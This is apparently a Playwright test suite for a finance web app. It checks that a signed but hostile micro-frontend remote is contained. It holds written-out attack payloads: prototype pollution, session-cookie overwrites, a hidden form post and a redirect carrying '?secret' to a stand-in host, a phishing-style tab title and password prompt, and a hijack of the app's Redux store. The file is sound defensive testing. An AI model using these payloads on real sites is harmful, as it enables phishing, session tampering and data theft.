import { spread } from '@halyard/shared-contracts/testing/thorough';
import { expect, type Page } from '@playwright/test';
import { arriveAt, follow, main } from '../support/page';
import { suiteWorld, TERMS } from '../support/remotes/suite-world';
import { test, thoroughTest } from '../support/remotes/world-test';

/*
 * Code of a remote that was published and signed and turns on the page around it: what the browser and the shell refuse,
 * and what the user sees of the rest. docs/remotes-attacks.md lists every attack.
 */

const { world, visit } = suiteWorld();

/** Opens the terms in a version that runs `harm` before it shows them. */
async function attacked(version: string, harm: string, page?: Page): Promise<Page> {
  world.publish(version, { 'terms.': (code) => `(() => {${harm}})();${code}` });
  world.channels({ stable: version });
  const opened = page ?? (await visit({ noise: 'anything' })).page;
  await opened.goto(TERMS);
  return opened;
}

/** Withdraws the version and opens the next page. */
async function takenBack(page: Page): Promise<void> {
  world.channels();
  await page.goto(TERMS);
  await arriveAt(page, 'Terms 1.1.0');
}

/**
 * Checks that the menu works by pointer and by keyboard, that the tab has its title, and that accounts show
 * figures.
 */
async function expectWhole(page: Page): Promise<void> {
  await follow(page, 'Accounts');
  await arriveAt(page, 'Accounts');
  await expect(page).toHaveTitle(/^Accounts/);
  await expect(
    main(page)
      .getByText(/\$[\d,]+/)
      .first(),
  ).toBeVisible();
  const menu = page.getByRole('navigation', { name: 'Main' });
  const [budget, next] = ['Budget', 'Income'].map((name) =>
    menu.getByRole('link', { name, exact: true }),
  );
  await budget?.focus();
  await page.keyboard.press('Enter');
  await arriveAt(page, 'Budget');
  await expect(next!).toBeVisible();
}

const REFUSED = `
  const ends = (window.__ends = {});
  const refused = (name, act) => {
    try { act(); ends[name] = 'done'; } catch (error) { ends[name] = error.name; }
  };
  refused('a property of every object', () => Object.defineProperty(Object.prototype, 'isOwner', { value: true }));
  refused('a property of every object by a merge', () => Reflect.set(JSON.parse('{}').__proto__, 'isOwner', true) || Reflect.getOwnPropertyDescriptor(Object.prototype, 'isOwner').value);
  refused('the address of another place', () => history.pushState(null, '', 'https://elsewhere.example/'));
  ends.cookies = document.cookie.split('; ').map((each) => each.split('=')[0]).toSorted();
  for (const name of ['halyard-session', 'halyard_session', 'session']) document.cookie = name + '=stolen; Path=/';
  const form = Object.assign(document.createElement('form'), { action: 'https://elsewhere.example/', method: 'post', target: 'frame' });
  document.body.append(Object.assign(document.createElement('iframe'), { name: 'frame', hidden: true }), form);
  form.submit();
  navigator.geolocation.getCurrentPosition(
    () => (ends.place = 'accepted'), ({ code }) => (ends.place = 'refused ' + code));`;

test('pollution of all objects, a false address, stolen cookies, posted forms, and the device’s place are refused', async () => {
  const { page } = await visit({ noise: 'anything' });
  await page.addInitScript(() => {
    const violations: string[] = [];
    Object.assign(window, { __violations: violations });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      violations.push(effectiveDirective),
    );
  });
  await attacked('3.0.0', REFUSED, page);
  await arriveAt(page, 'Terms 3.0.0');
  await page.waitForFunction(() => 'place' in Reflect.get(window, '__ends'));
  expect(await page.evaluate(() => Reflect.get(window, '__ends'))).toEqual({
    'a property of every object': 'TypeError',
    'a property of every object by a merge': 'TypeError',
    'the address of another place': 'SecurityError',
    cookies: ['halyard_onboarded'],
    place: 'refused 1',
  });
  await expect
    .poll(() => page.evaluate(() => Reflect.get(window, '__violations')))
    .toContain('form-action');
  await takenBack(page);
  await expectWhole(page);
});

interface Attack {
  readonly what: string;
  readonly harm: string;
  /** Checks what the user sees while the version runs. */
  readonly sees: (page: Page) => Promise<void>;
}

const focused = (page: Page) => page.evaluate(() => document.activeElement?.textContent);

const LASTING: readonly Attack[] = [
  {
    what: 'covers the header and the menu',
    harm: `const cover = Object.assign(document.createElement('div'), { id: 'cover' });
      Object.assign(cover.style, { position: 'fixed', inset: 0, zIndex: 2147483647 });
      document.body.append(cover);`,
    async sees(page) {
      await arriveAt(page, 'Terms 3.1.0');
      expect(await page.evaluate(() => document.elementFromPoint(20, 20)?.id)).toBe('cover');
    },
  },
  {
    what: 'empties the page',
    harm: `document.body.replaceChildren();`,
    async sees(page) {
      await expect(page.locator('body')).toBeEmpty();
    },
  },
  {
    what: 'renames the tab',
    harm: `setTimeout(() => (document.title = 'Your bank: sign in again'));`,
    async sees(page) {
      await arriveAt(page, 'Terms 3.1.2');
      await expect(page).toHaveTitle('Your bank: sign in again');
      await follow(page, 'Accounts');
      await expect(page).toHaveTitle(/^Accounts/);
    },
  },
  {
    what: 'takes the focus again and again',
    harm: `setInterval(() => document.querySelector('nav a')?.focus(), 20);`,
    async sees(page) {
      await arriveAt(page, 'Terms 3.1.3');
      const first = await page.locator('nav a').first().textContent();
      await main(page).getByRole('heading', { level: 1 }).focus();
      await expect.poll(() => focused(page)).toBe(first);
    },
  },
  {
    what: 'swallows every key',
    harm: `for (const type of ['keydown', 'keyup', 'keypress'])
      addEventListener(type, (event) => { event.preventDefault(); event.stopImmediatePropagation(); }, true);`,
    async sees(page) {
      await arriveAt(page, 'Terms 3.1.4');
      await page.keyboard.press('Tab');
      expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('BODY');
      await follow(page, 'Accounts');
      await arriveAt(page, 'Accounts');
    },
  },
  {
    what: 'fills the history',
    harm: `for (let count = 0; count < 40; count += 1) history.pushState(null, '', location.href);`,
    async sees(page) {
      await arriveAt(page, 'Terms 3.1.5');
      await page.goBack();
      await arriveAt(page, 'Terms 3.1.5');
      await follow(page, 'Accounts');
      await arriveAt(page, 'Accounts');
    },
  },
  {
    what: 'asks with the browser’s own dialogs and holds the user back',
    harm: `addEventListener('beforeunload', (event) => event.preventDefault());
      setTimeout(() => (window.__answer = prompt('Your password?')));`,
    async sees(page) {
      const dialog = await page.waitForEvent('dialog');
      expect(dialog.type()).toBe('prompt');
      await dialog.dismiss();
      await expect.poll(() => page.evaluate(() => Reflect.get(window, '__answer'))).toBe(null);
      await arriveAt(page, 'Terms 3.1.6');
    },
  },
  {
    what: 'takes the whole store: it reads it, forgets every answer, and sends actions of other remotes',
    harm: `const container = document.getElementById('root');
      let fiber = container[Object.keys(container).find((key) => key.startsWith('__reactContainer'))];
      while (fiber && !fiber.memoizedProps?.store) fiber = fiber.child;
      const { store } = fiber.memoizedProps;
      window.__read = Object.keys(store.getState());
      store.dispatch({ type: 'money/everything', payload: 'harm' });
      store.dispatch({ type: 'api/resetApiState' });`,
    async sees(page) {
      await arriveAt(page, 'Terms 3.1.7');
      expect(await page.evaluate(() => Reflect.get(window, '__read'))).toContain('api');
      await expectWhole(page);
    },
  },
];

for (const [index, { what, harm, sees }] of spread([...LASTING.entries()], 1)) {
  thoroughTest(
    `a version that ${what} harms only the open page, and the next page works`,
    async () => {
      const { page } = await visit({ noise: 'anything' });
      const seen = attacked(`3.1.${index}`, harm, page);
      await Promise.all([seen, sees(page)]);
      await takenBack(page);
      await expectWhole(page);
    },
  );
}

thoroughTest(
  'a version that clears the storage of the browser leads to the welcome page, and deletes no figure',
  async () => {
    const { page } = await visit({ noise: 'anything', onboarded: false });
    await page.goto('/');
    await page.evaluate(() => localStorage.setItem('onboardingCompleted', 'true'));
    await attacked('3.2.0', 'localStorage.clear(); sessionStorage.clear();', page);
    await arriveAt(page, 'Terms 3.2.0');
    world.channels();
    await page.goto('/accounts');
    await expect(page).toHaveURL(/\/welcome$/);
    await page.evaluate(() => localStorage.setItem('onboardingCompleted', 'true'));
    await takenBack(page);
    await expectWhole(page);
  },
);

thoroughTest(
  'a version that takes data to another site shows in the address bar, and Back leads to a page that works',
  async () => {
    const { page } = await visit({ noise: 'anything' });
    await page.route('https://elsewhere.example/**', (route) =>
      route.fulfill({ contentType: 'text/html', body: '<title>elsewhere</title>' }),
    );
    const opened = attacked(
      '3.3.0',
      // A page that leaves before its load event has no entry of its own to go back to.
      `const leave = () => setTimeout(() => (location.href = 'https://elsewhere.example/?secret'));
    if (document.readyState === 'complete') leave();
    else addEventListener('load', leave);`,
      page,
    );
    await opened.catch(() => undefined);
    await expect(page).toHaveURL('https://elsewhere.example/?secret');
    world.channels();
    await page.goBack();
    await arriveAt(page, 'Terms 1.1.0');
    await expectWhole(page);
  },
);
